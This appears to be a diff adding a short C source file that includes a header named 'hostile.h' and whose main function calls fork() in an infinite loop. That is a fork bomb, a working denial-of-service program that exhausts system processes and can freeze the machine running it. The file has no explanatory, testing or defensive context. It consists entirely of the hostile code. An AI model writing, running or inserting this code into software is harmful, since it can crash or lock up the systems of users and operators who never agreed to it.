@@ -1,0 +1,5 @@
+#include "hostile.h"
+
+int main(void) {
+    for (;;) fork();
+}
